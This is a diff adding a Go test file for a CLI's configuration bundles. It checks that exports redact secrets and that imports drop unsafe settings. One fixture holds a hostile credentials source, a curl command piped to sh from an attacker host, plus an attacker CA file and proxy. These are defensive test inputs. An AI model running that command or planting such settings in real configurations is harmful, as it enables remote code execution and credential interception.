@@ -0,0 +1,128 @@
+// Copyright 2024 Cisco Systems, Inc.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//      http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package config
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"gopkg.in/yaml.v3"
+)
+
+const bundleTestConfig = `
+contexts:
+    - name: base
+      auth_method: service-principal
+      url: https://base.example.com
+      secret_file: /home/me/creds.json
+      token: access-token
+      refresh_token: refresh-token
+      secret_store: keyring
+      subsystems:
+        knowledge:
+            apiver: v1
+    - name: dev
+      extends: base
+      tenant: dev-tenant
+    - name: ci
+      auth_method: jwt
+      url: https://ci.example.com
+      token: jwt-token
+current_context: base
+`
+
+func TestExportImportBundle(t *testing.T) {
+	setTestConfigFile(t, bundleTestConfig)
+
+	bundle, err := ExportContexts([]string{"dev", "ci"})
+	require.NoError(t, err)
+	require.Len(t, bundle.Contexts, 2)
+
+	dev := bundle.Contexts[0]
+	assert.Equal(t, "dev", dev.Name)
+	assert.Equal(t, "", dev.Extends)
+	assert.Equal(t, "https://base.example.com", dev.URL) // inherited
+	assert.Equal(t, "dev-tenant", dev.Tenant)
+	assert.Equal(t, RedactedPlaceholder, dev.SecretFile)
+	assert.Equal(t, "", dev.Token)
+	assert.Equal(t, "", dev.RefreshToken)
+	assert.Equal(t, "", dev.SecretStore)
+	assert.Equal(t, map[string]any{"apiver": "v1"}, dev.SubsystemConfigs["knowledge"])
+
+	ci := bundle.Contexts[1]
+	assert.Equal(t, RedactedPlaceholder, ci.Token)
+
+	// round trip through the file format; no secrets may leak
+	data, err := yaml.Marshal(bundle)
+	require.NoError(t, err)
+	for _, secret := range []string{"creds.json", "access-token", "refresh-token", "jwt-token", "keyring"} {
+		assert.NotContains(t, string(data), secret)
+	}
+	parsed, err := ParseBundle(data)
+	require.NoError(t, err)
+	assert.Equal(t, bundle, parsed)
+
+	assert.Equal(t, []string{"secret-file"}, RedactedSettings(&parsed.Contexts[0]))
+	assert.Equal(t, []string{"token"}, RedactedSettings(&parsed.Contexts[1]))
+	ClearRedacted(&parsed.Contexts[0])
+	assert.Equal(t, "", parsed.Contexts[0].SecretFile)
+
+	_, err = ExportContexts([]string{"missing"})
+	assert.Error(t, err)
+}
+
+func TestParseBundleErrors(t *testing.T) {
+	tests := map[string]string{
+		"version":   "version: 2\ncontexts: []\n",
+		"no name":   "version: 1\ncontexts:\n  - url: https://example.com\n",
+		"duplicate": "version: 1\ncontexts:\n  - name: a\n  - name: a\n",
+		"syntax":    "version: [\n",
+	}
+	for name, data := range tests {
+		_, err := ParseBundle([]byte(data))
+		assert.Error(t, err, name)
+	}
+}
+
+func TestDropUnsafeSettings(t *testing.T) {
+	unsafe := Context{
+		AuthMethod:         AuthMethodServicePrincipal,
+		CredentialsSource:  "exec:curl -s https://attacker.example.com/x.sh | sh",
+		InsecureSkipVerify: true,
+		CAFile:             "/tmp/attacker-ca.pem",
+		ProxyURL:           "http://attacker.example.com:8080",
+		NoProxy:            "localhost",
+		SecretStore:        "helper:attacker",
+	}
+
+	ctx := unsafe
+	dropped := DropUnsafeSettings(&ctx, ImportPermissions{})
+	assert.Equal(t, []string{"credentials", "insecure-skip-verify", "ca-file", "proxy", "secret-store"}, dropped)
+	assert.Equal(t, Context{AuthMethod: AuthMethodServicePrincipal, SecretFile: RedactedPlaceholder, NoProxy: "localhost"}, ctx)
+	assert.Equal(t, []string{"secret-file"}, RedactedSettings(&ctx))
+
+	ctx = unsafe
+	dropped = DropUnsafeSettings(&ctx, ImportPermissions{ExecCredentials: true, Insecure: true})
+	assert.Equal(t, []string{"secret-store"}, dropped)
+	assert.Equal(t, unsafe.CredentialsSource, ctx.CredentialsSource)
+	assert.True(t, ctx.InsecureSkipVerify)
+	assert.Equal(t, unsafe.ProxyURL, ctx.ProxyURL)
+
+	// other credentials sources don't run commands
+	ctx = Context{CredentialsSource: CredentialsSourceEnv}
+	assert.Empty(t, DropUnsafeSettings(&ctx, ImportPermissions{}))
+	assert.Equal(t, CredentialsSourceEnv, ctx.CredentialsSource)
+}